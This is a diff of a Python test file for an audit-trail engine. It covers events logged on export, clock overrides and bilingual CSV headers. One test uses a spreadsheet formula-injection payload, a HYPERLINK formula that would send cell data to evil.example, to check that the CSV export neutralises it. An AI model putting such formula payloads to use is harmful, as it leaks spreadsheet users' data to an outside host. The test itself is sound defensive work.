@@ -17,6 +17,7 @@ from sqlalchemy import event, func, select, text
 from sqlalchemy.exc import DatabaseError
 
 import engine.audit as audit
+from engine import clock
 from engine.audit import public_url, verify
 from engine.cli import main
 from engine.commands import Engine
@@ -119,6 +120,26 @@ def test_a_cut_off_end_is_caught_by_the_records_it_leaves_behind(engine, people)
     assert "角色 pilot 仍在数据库中，却没有 group_added 事件" in said
     assert "plan 1 has no instance_started event" in said and "task 1 has no task_created event" in said
     assert problems[0].startswith("审计记录缺失事件：") and "the audit trail is missing events for records that exist" in problems[0]
+
+
+def test_an_export_goes_on_the_trail_by_whom_in_which_format_up_to_which_event(engine, people, tmp_path):
+    """QA auditor finding 10: exporting left no trace; now an `audit_exported` event, as a check's `audit_verified`."""
+    from engine.trail_text import said
+    cli(engine.db, "audit", "export", "--output", str(tmp_path / "a.jsonl"), "--as", "chen")
+    exported = [json.loads(line) for line in (tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()]
+    cli(engine.db, "audit", "export", "--format", "csv")  # standard output, the operator
+    with engine.db.reader() as s:
+        first, second = s.execute(select(AuditEvent).where(AuditEvent.event_type == "audit_exported")
+                                  .order_by(AuditEvent.seq)).scalars().all()
+    assert (first.actor, first.instance_id, first.seq) == ("chen", None, exported[-1]["seq"] + 1)
+    assert json.loads(first.payload) == {"format": "jsonl", "plan": None, "events": len(exported),
+                                         "last_seq": exported[-1]["seq"], "last_hash": exported[-1]["hash"], "via": "cli"}
+    assert second.actor == "system" and json.loads(second.payload)["last_seq"] == first.seq
+    line = said({"event_type": "audit_exported", "payload": json.loads(first.payload), "name": None}, "zh")
+    assert line == f"导出审计记录：全部，jsonl，事件 {len(exported)}，至事件 {exported[-1]['seq']}"
+    refused = cli(engine.db, "audit", "export", "--as", "nobody", code=4)
+    assert "nobody" in refused.stderr
+    assert verify_json(engine.db)["ok"]
 
 
 def test_a_wiped_trail_next_to_a_full_database_is_not_intact(engine, people):
@@ -230,6 +251,7 @@ def test_a_backdated_now_shows_in_recorded_at_and_export_json_recomputes(engine,
     before = datetime.now(timezone.utc)
     cli(engine.db, "--now", "2020-01-01T09:00:00", "groups", "add", "backdated", "--display-name", "补记")
     after = datetime.now(timezone.utc)
+    clock.set_override(None)  # as the next command, a process of its own, starts: its export is on the trail
     with warnings.catch_warnings():
         warnings.simplefilter("error", DeprecationWarning)  # click.get_text_stream is gone
         exported = json.loads(cli(engine.db, "audit", "export", "--json").stdout)
@@ -247,7 +269,7 @@ def test_a_backdated_now_shows_in_recorded_at_and_export_json_recomputes(engine,
         f"{row['seq']} (1 event(s) have a business time more than 5 minutes from the time they were written: entered "
         f"with a date other than the real one (a date set by hand, or the demo data); first: event {row['seq']})"]
     csv_header = cli(engine.db, "audit", "export", "--format", "csv").stdout.splitlines()[0]
-    assert csv_header.split(",")[-1] == "recorded_at"
+    assert csv_header.split(",")[9] == "实际写入时间，UTC (recorded_at)"
     refused = cli(engine.db, "audit", "export", "--format", "csv", "--json", code=3)
     assert json.loads(refused.stdout)["error"] == "invalid"
 
@@ -444,7 +466,10 @@ def test_a_name_typed_as_a_formula_is_text_in_the_csv_export_and_the_hash_still_
     typed = '=HYPERLINK("http://evil.example/?d="&A1,"查看详情")'
     engine.sign_in_refused(typed, address="203.0.113.9", reason=engine.SIGN_IN_REFUSALS[0])
     engine.sign_in_refused("'quoted", address="203.0.113.9", reason=engine.SIGN_IN_REFUSALS[0])
-    rows = list(csv.DictReader(io.StringIO(cli(engine.db, "audit", "export", "--format", "csv").stdout.lstrip("\ufeff"))))
+    exported = csv.reader(io.StringIO(cli(engine.db, "audit", "export", "--format", "csv").stdout.lstrip("\ufeff")))
+    header = next(exported)  # 序号 (seq), …: the hashed fields by name in brackets, then the readable columns
+    fields = [h.rsplit("(", 1)[1].rstrip(")") if h.endswith(")") else h for h in header]
+    rows = [{k: v for k, v in zip(fields, line) if k in audit.EXPORT_FIELDS} for line in exported]
     actors = [r["actor"] for r in rows]
     assert "'" + typed in actors and typed not in actors and "''quoted" in actors
     assert not [cell for r in rows for cell in r.values() if cell and cell[0] in "=+-@"]  # nothing Excel would run
